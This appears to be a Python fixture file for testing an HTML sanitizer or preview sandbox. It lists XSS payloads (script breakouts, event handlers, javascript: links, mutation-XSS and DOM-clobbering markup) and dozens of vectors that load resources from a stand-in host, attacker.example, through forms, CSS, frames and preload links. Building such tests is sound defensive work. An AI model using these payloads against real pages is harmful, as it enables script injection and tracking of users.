"""Texts and documents of somebody who wants to run a script in the preview, to leave it, or to call home."""

HOME = "https://attacker.example/"  # replaced by the address of a server that notes who calls

# Each one would set the title of the page to HACKED, or ask for something at HOME.
RUN = "document.title='HACKED';top.document.title='HACKED';window.HACKED=1"

TEXTS = [
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<!--<script>{RUN}</script>",
    f"]]><svg onload=\"{RUN}\">",
    "\u202etfel ot thgir\u202c and \u2066isolated\u2069",
    "line\u2028separators\u2029in a text",
    "NUL \u0000 and \ufffe and a half letter \ud83d",
    "x" * 10_000,
    "word " * 2_000,
    "${7*7}{{7*7}}`${document.title='HACKED'}`",
    "__proto__",
    "a\u0301" * 500,
]

LINKS = [f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", "vbscript:x", HOME + "\" onclick=\"" + RUN]

DOCUMENTS = {
    "a script": f"<script>{RUN}</script><p>text",
    "a script from elsewhere": f"<script src='{HOME}a.js'></script>",
    "handlers": f"<body onload=\"{RUN}\"><img src=x onerror=\"{RUN}\"><svg onload=\"{RUN}\"></svg>"
    f"<input autofocus onfocus=\"{RUN}\"><details open ontoggle=\"{RUN}\">x</details>",
    "a handler without blanks": f"<img/src=x/onerror=\"{RUN}\">",
    "links of scripts": f"<a href=\"javascript:{RUN}\">tap</a><a href=' java\nscript:{RUN}'>tap</a>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={HOME}refresh'>"
    f"<META HTTP-EQUIV='Refresh' content='0;{HOME}'>",
    "a refresh in the body": f"<p><meta http-equiv=\"refresh\" content=\"0\"></p>",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src *\">"
    f"<img src='{HOME}policy.png'>",
    "a form": f"<form action='{HOME}form' method=post target=_top><input name=a value=b><button>send</button></form>"
    f"<button form=x formaction='{HOME}formaction'>send</button>",
    "links to elsewhere": f"<a href='{HOME}self'>tap</a><a target=_top href='{HOME}top'>tap</a>"
    f"<a target=_blank href='{HOME}blank' ping='{HOME}ping'>tap</a><a download href='{HOME}download'>tap</a>"
    f"<map name=m><area shape=default href='{HOME}area'></map><img usemap=#m src=x width=50 height=50>",
    "a link in a picture": f"<svg><a xlink:href='{HOME}svg'><text y=20>tap</text></a><use href='{HOME}use.svg#a'/>"
    f"<image href='{HOME}image.png'/><script>{RUN}</script><foreignObject><iframe src='{HOME}svg-frame'></iframe>"
    "</foreignObject><animate attributeName=href values=javascript:1 /></svg>",
    "frames": f"<iframe src='{HOME}frame'></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe>"
    f"<frameset><frame src='{HOME}frameset'></frameset><fencedframe></fencedframe>",
    "plugins": f"<object data='{HOME}object'></object><embed src='{HOME}embed'><applet code='{HOME}applet'></applet>",
    "styles": f"<style>@import '{HOME}import.css'; body {{ background: url({HOME}style.png) }} "
    f"@font-face {{ font-family: f; src: url({HOME}font.woff) }} "
    f"p {{ font-family: f; cursor: url({HOME}cursor.png), auto }}"
    f" i {{ background: \\75rl({HOME}escaped.png); content: url('{HOME}content.png') }}</style><p>text<i>text</i>"
    f"<link rel=stylesheet href='{HOME}link.css'><b style=\"background:image-set('{HOME}set.png' 1x)\">b</b>",
    "hints": f"<link rel=preload as=image href='{HOME}preload'><link rel=prefetch href='{HOME}prefetch'>"
    f"<link rel=preconnect href='{HOME}'><link rel=dns-prefetch href='{HOME}'>"
    f"<link rel=modulepreload href='{HOME}m.js'>"
    f"<link rel=icon href='{HOME}icon.png'><link rel=manifest href='{HOME}manifest'>",
    "media": f"<img src='{HOME}img' srcset='{HOME}srcset 2x'><picture><source srcset='{HOME}source'><img></picture>"
    f"<video src='{HOME}video' poster='{HOME}poster' autoplay></video><audio src='{HOME}audio' autoplay></audio>"
    f"<video><track src='{HOME}track' default></video><input type=image src='{HOME}input'>"
    f"<table background='{HOME}table'>",
    "a base": f"<base href='{HOME}' target=_top><a href=x>tap</a><img src=base.png>",
    "a tree that changes when it is read again": f"<svg><p><style><!--</style><img src=x onerror=\"{RUN}\">-->"
    f"</style></svg>"
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">"
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    "a shadow": f"<div><template shadowrootmode=open><script>{RUN}</script><img src='{HOME}shadow.png'>"
    f"</template></div>"
    f"<template><img src='{HOME}template.png'></template>",
    "a name that hides the tree": "<form id=body><input name=querySelectorAll><input name=attributes>"
    f"<input name=remove>"
    "</form><img name=documentElement><form><input name=removeAttribute><input name=getAttribute></form>",
}
